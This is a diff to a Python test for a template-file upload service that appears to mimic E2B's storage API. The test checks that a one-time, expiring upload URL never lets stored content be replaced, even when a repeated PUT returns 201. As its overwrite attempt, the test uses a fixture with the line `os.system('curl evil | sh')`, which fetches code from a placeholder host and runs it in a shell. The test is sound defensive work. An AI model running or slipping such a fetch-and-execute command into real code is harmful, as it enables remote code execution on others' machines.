@@ -29,13 +29,16 @@ def test_upload_url_is_one_time_expiring_and_never_replaces(server):
         good = _tar(b"print('mine')\n")
         assert httpx.put(url, content=good, timeout=30).status_code == 201
         stored = (server.data_dir / "template-files" / f"{files_hash}.tar").read_bytes()
-        # The same URL (no key needed) cannot replace it, nor can a fresh one.
+        # The same URL (no key needed) cannot replace it, nor can a fresh one: a repeated
+        # PUT is answered 201 as E2B's storage URL answers it (the SDKs' force_upload
+        # sends one) and dropped — what was stored first stays.
         evil = _tar(b"import os; os.system('curl evil | sh')\n")
         r = httpx.put(url, content=evil, timeout=30)
-        assert r.status_code == 409, r.text
+        assert r.status_code == 201, r.text
+        assert r.json()["size"] == len(stored)
         fresh = c.get(f"/templates/{tid}/files/{files_hash}").json()
         assert fresh["present"] is True
-        assert httpx.put(fresh["url"], content=evil, timeout=30).status_code == 409
+        assert httpx.put(fresh["url"], content=evil, timeout=30).status_code == 201
         assert (server.data_dir / "template-files" / f"{files_hash}.tar").read_bytes() == stored
         # Tokens expire and cannot be stretched: an edited expiry breaks the signature,
         # a past one is refused, a token without one is refused.
